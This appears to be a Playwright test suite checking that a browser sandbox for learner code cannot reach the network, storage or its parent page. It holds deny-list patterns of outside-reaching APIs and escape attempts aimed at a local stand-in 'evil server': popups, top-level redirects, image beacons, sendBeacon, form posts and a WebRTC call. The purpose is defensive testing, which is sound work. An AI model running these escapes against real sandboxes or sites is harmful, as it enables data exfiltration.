import { expect, test } from '@playwright/test';
import { measureOn, sandboxFiles, useBenchPage } from '../support/bench-page.ts';
import { type EvilServer, startEvilServer } from '../support/evil-server.ts';
import { PROBE_ASSET } from '../support/probe-lab.ts';
import { ESCAPES } from './escapes.ts';

const bench = useBenchPage();
let evil: EvilServer;

test.beforeAll(async () => {
  evil = await startEvilServer();
});
test.afterAll(() => evil.close());

/** Runs `body` as the learner's function and gives back what it returned. */
async function probe(body: string, load = ''): Promise<unknown> {
  const report = await measureOn(
    bench.page,
    { text: PROBE_ASSET },
    `${load}\nexport function probe(input: any): any { ${body} }`,
  );
  const shown = report.cases[0]?.shown?.actual;
  if (shown === undefined) throw new Error(JSON.stringify(report.findings));
  return JSON.parse(JSON.parse(shown));
}

test('the learner’s global holds ECMAScript and nothing that reaches the outside', async () => {
  const names = (await probe(`
    const names: string[] = [];
    for (let o: any = globalThis; o; o = Object.getPrototypeOf(o)) names.push(...Object.getOwnPropertyNames(o).filter((k) => (globalThis as any)[k] !== undefined));
    return JSON.stringify([...new Set(names)]);
  `)) as string[];
  const outside = names.filter((name) =>
    /fetch|XMLHttp|Socket|EventSource|RTC|Transport|beacon|import|Worker|storage|caches|cookie|Broadcast|open|location|navigator|postMessage|Message|close|Timeout|Interval|Idle|queueMicrotask|indexedDB|crypto|WebAssembly|SharedArrayBuffer|Atomics|FinalizationRegistry|Blob|URL|File|Request|Response|Event|Abort|scheduler|reportError|Performance/i.test(
      name,
    ),
  );
  // The clock is all that is left of `performance`.
  expect(outside.filter((name) => name !== 'performance')).toEqual([]);
  expect(names).toContain('Map');
});

test('a crawl of everything reachable finds no function of the platform that reaches the outside', async () => {
  const found = (await probe(`
    const seen = new Set<any>();
    const names: string[] = [];
    const queue: [any, string][] = [[globalThis, '']];
    const add = (v: any, path: string) => { if ((typeof v === 'object' && v !== null) || typeof v === 'function') if (!seen.has(v)) { seen.add(v); queue.push([v, path]); } };
    const literals: any[] = [function () {}, async function () {}, function* () {}, async function* () {}, new Error('x'), [][Symbol.iterator](), new Map().entries(), Promise.resolve(), new Proxy({}, {}), /x/g, 1n, Symbol.iterator, 'x', input, console.log];
    for (const v of literals) { add(Object.getPrototypeOf(Object(v)), '~'); add(v, '~'); }
    while (queue.length && seen.size < 20000) {
      const [o, path] = queue.pop()!;
      if (typeof o === 'function') names.push(path);
      add(Object.getPrototypeOf(o), path + '.__proto__');
      for (const key of Reflect.ownKeys(o)) {
        const d = Object.getOwnPropertyDescriptor(o, key)!;
        const next = path + '.' + String(key);
        if ('value' in d) add(d.value, next);
        if (d.get) { add(d.get, next + ':get'); try { add(o[key], next); } catch {} }
        if (d.set) add(d.set, next + ':set');
      }
    }
    const outside = names.filter((path) => /postMessage|fetch|importScripts|createObjectURL|addEventListener|dispatchEvent|setTimeout|terminate|open$|send$|mark$|measure$|Worker|MessagePort|Storage/i.test(path));
    return JSON.stringify({ count: names.length, outside: outside.slice(0, 20) });
  `)) as { count: number; outside: string[] };
  // An answer to which cut text would fail to parse: what is reached is counted inside, and only what matters comes out.
  expect(found.count).toBeGreaterThan(400);
  expect(found.outside).toEqual([]);
});

for (const [name, body] of Object.entries(ESCAPES)) {
  test(`learner code cannot use ${name}`, async () => {
    const outcome = String(
      await probe(`
      const EVIL = ${JSON.stringify(evil.origin)}; const SITE = ${JSON.stringify(bench.site.url)};
      try { const v = (() => { ${body} })(); return JSON.stringify('reached: ' + String(v)); } catch (e: any) { return JSON.stringify('blocked: ' + e?.name); }
    `),
    );
    expect(outcome).toMatch(/^blocked/);
  });
}

test('even code that runs in the frame’s worker before the harness cannot reach the network or the site’s storage', async () => {
  // Confinement does not rest on the harness alone: here the worker is the attacker's from its first line.
  // Closing is left out: it would only end the attacker's own worker and with it the answer.
  const attempts = Object.entries(ESCAPES).filter(([name]) => name !== 'closing the worker');
  const outcomes = await bench.page.evaluate(
    async ([frameUrl, evilOrigin, siteOrigin, list]) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.setAttribute('allow', 'cross-origin-isolated');
      frame.src = frameUrl as string;
      const ready = new Promise<void>((resolve) =>
        addEventListener(
          'message',
          (e) => e.source === frame.contentWindow && e.data.type === 'frame-ready' && resolve(),
        ),
      );
      document.body.append(frame);
      await ready;
      const channel = new MessageChannel();
      const source = `onmessage = async (event) => {
        const port = event.ports[0]; const EVIL = ${JSON.stringify(evilOrigin)}; const SITE = ${JSON.stringify(siteOrigin)}; const out = {};
        const list = ${JSON.stringify(list)};
        for (const [name, body] of list) {
          const text = 'export default async (EVIL, SITE) => { ' + body + ' }';
          try {
            const url = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
            const value = await Promise.race([(await import(url)).default(EVIL, SITE), new Promise((_, no) => setTimeout(() => no(new Error('no answer')), 1500))]);
            out[name] = 'done: ' + String(value).slice(0, 60);
          } catch (e) { out[name] = 'blocked: ' + String(e).slice(0, 80); }
        }
        port.postMessage(out);
      };`;
      frame.contentWindow!.postMessage(
        { type: 'spawn', id: 9_001, source, nonce: 'x', files: {}, shared: null },
        '*',
        [channel.port2],
      );
      return await new Promise<Record<string, string>>((resolve) => {
        channel.port1.onmessage = (event) => resolve(event.data);
      });
    },
    [sandboxFiles().frame, evil.origin, bench.site.url, attempts] as const,
  );
  expect(Object.keys(outcomes).length).toBe(attempts.length);
  for (const name of [
    'localStorage',
    'indexedDB',
    'caches',
    'cookieStore',
    'the origin’s private file system',
    'a fetch of the site with cookies',
    'importScripts',
  ]) {
    expect(outcomes[name], name).toMatch(/^blocked/);
  }
});

test('nothing that was tried has reached the listening server', async () => {
  expect(evil.hits).toEqual([]);
  // The server does listen: this test would otherwise prove nothing.
  await fetch(`${evil.origin}/control`);
  expect(evil.hits).toEqual(['GET /control']);
});

test('the frame cannot navigate the page, open a window or leave for another address', async ({
  browser,
}) => {
  const context = await browser.newContext();
  const victim = await context.newPage();
  await victim.goto(`${bench.site.url}/labs`);
  const before = evil.hits.length;
  await victim.evaluate(
    async ([frameUrl]) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.src = frameUrl!;
      await new Promise((resolve) => {
        frame.onload = resolve;
        document.body.append(frame);
      });
    },
    [sandboxFiles().frame] as const,
  );
  const frame = victim.frames().find((f) => f.url().includes('/sandbox/frame-'))!;
  await frame
    .evaluate((origin) => {
      const tries = [
        () => window.open(`${origin}/popup`),
        () => (top!.location.href = `${origin}/top`),
        () => parent.location.replace(`${origin}/parent`),
        () => document.body.append(Object.assign(document.createElement('img'), { src: `${origin}/img` })),
        () =>
          document.body.append(Object.assign(document.createElement('iframe'), { src: `${origin}/inner` })),
        () => navigator.sendBeacon(`${origin}/beacon`, 'x'),
        () => {
          const form = Object.assign(document.createElement('form'), {
            action: `${origin}/form`,
            method: 'post',
          });
          document.body.append(form);
          form.submit();
        },
        () =>
          void new RTCPeerConnection({
            iceServers: [{ urls: `stun:${new URL(origin).host}` }],
          }).createDataChannel('x'),
        () => (location.href = `${origin}/self`),
      ];
      for (const one of tries) {
        try {
          one();
        } catch {}
      }
    }, evil.origin)
    .catch(() => {});
  await expect.poll(() => victim.evaluate(() => document.readyState)).toBe('complete');
  await victim.evaluate(
    () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 500))),
  );
  expect(victim.url()).toBe(`${bench.site.url}/labs`);
  expect(context.pages()).toHaveLength(1);
  expect(evil.hits.slice(before)).toEqual([]);
  await context.close();
});
